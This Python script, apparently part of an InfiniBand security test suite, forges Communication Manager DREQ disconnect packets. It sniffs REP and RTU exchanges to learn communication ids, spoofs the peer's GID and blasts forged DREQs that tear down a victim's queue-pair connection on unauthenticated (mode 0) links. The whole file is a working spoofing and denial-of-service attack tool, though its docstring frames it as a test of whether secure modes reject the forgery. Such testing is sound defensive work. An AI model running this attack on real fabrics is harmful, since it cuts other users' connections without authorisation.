"""Forged disconnect (CM DREQ): tear down a connection with communication ids sniffed off its REP.

A REP crosses the wire in the clear with both ends' communication ids; a DREQ that names them and claims
the peer's GID is all IBA asks to destroy the QP. Give the ids (``--local-comm-id``: the impersonated
peer's, ``--remote-comm-id``: the victim's), or ``--sniff SECONDS`` to learn them from a REP to or from
``--dst-gid``. A secure connection (mode 1-4) takes only a DREQ sealed under its own CM key, which the
forger does not hold: the DREQ is counted ``bad_auth`` and the connection survives. In mode 0 it works.
"""

from __future__ import annotations

import ipaddress
import os
from typing import Any

from scapy.layers.l2 import Ether

from ibsec import layers
from ibsec.builder import Builder, gid_bytes

from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run


def from_rep(sock: RawSocket, victim: str, seconds: float) -> dict[str, Any] | None:
    """The ids of the DREQ that would tear down the connection a REP to or from ``victim`` set up. When
    the victim asked, its RTU is awaited too (within ``seconds``): the RTU shows the victim took the REP,
    so the DREQ meets an established connection rather than one still being set up."""
    report({"sniffing": seconds})
    learnt: dict[str, Any] | None = None
    for frame, view in sock.sniff(seconds):
        if view.dqpn != layers.GSI_QPN:
            continue
        src, dst = (str(ipaddress.IPv6Address(g)) for g in (view.src_gid, view.dst_gid))
        if learnt is not None:
            rtu = Ether(frame).getlayer(layers.CmRtu)
            if rtu is not None and src == victim and rtu.local_comm_id == learnt["remote"]:
                return learnt
            continue
        rep = Ether(frame).getlayer(layers.CmRep)
        if rep is None:
            continue
        if src == victim:  # the victim accepted (its QP is connected as it sends the REP)
            return {"src_gid": dst, "local": rep.remote_comm_id, "remote": rep.local_comm_id,
                    "qpn": rep.local_qpn, "pkey": view.pkey}
        if dst == victim:  # the victim asked: impersonate the responder, once the victim sent its RTU
            learnt = {"src_gid": src, "local": rep.local_comm_id, "remote": rep.remote_comm_id, "qpn": 0,
                      "pkey": view.pkey}
    return learnt


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.set_defaults(count=1)
    p.add_argument("--dst-gid", required=True, help="the victim: the end whose QP the DREQ destroys")
    p.add_argument("--sniff", type=float, default=0.0, help="seconds to sniff for a REP")
    p.add_argument("--src-gid", help="the peer to impersonate")
    p.add_argument("--local-comm-id", type=int0, help="the impersonated peer's communication id")
    p.add_argument("--remote-comm-id", type=int0, help="the victim's communication id")
    p.add_argument("--remote-qpn", type=int0, default=0, help="the victim's QPN (DREQ field)")
    p.add_argument("--pkey", type=int0, default=0xFFFF)
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    victim = gid_text(args.dst_gid)
    learnt = from_rep(sock, victim, args.sniff) if args.sniff else None
    ids = learnt or {"src_gid": args.src_gid, "local": args.local_comm_id, "remote": args.remote_comm_id,
                     "qpn": args.remote_qpn, "pkey": args.pkey}
    if any(ids[name] is None for name in ("src_gid", "local", "remote")):
        raise SystemExit("forge_dreq: no REP seen; give --src-gid, --local-comm-id and --remote-comm-id")
    builder = Builder(sock.mac, gid_bytes(gid_text(ids["src_gid"])))

    body = layers.CmDreq(local_comm_id=ids["local"], remote_comm_id=ids["remote"], remote_qpn_eecn=ids["qpn"])

    def dreq(i: int) -> bytes:
        mad = layers.MAD(mgmt_class=layers.MgmtClass.CM, method=layers.Method.SEND,
                         attribute_id=layers.CmAttr.DREQ, transaction_id=int.from_bytes(os.urandom(8), "big"))
        return builder.mad_frame(victim, ids["pkey"], bytes(mad / body)[: layers.MAD_LEN])

    summary = blast(sock, dreq, args)
    report({"attack": "forge_dreq", "impersonated": gid_text(ids["src_gid"]),
            "local_comm_id": ids["local"], "remote_comm_id": ids["remote"], **summary})
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
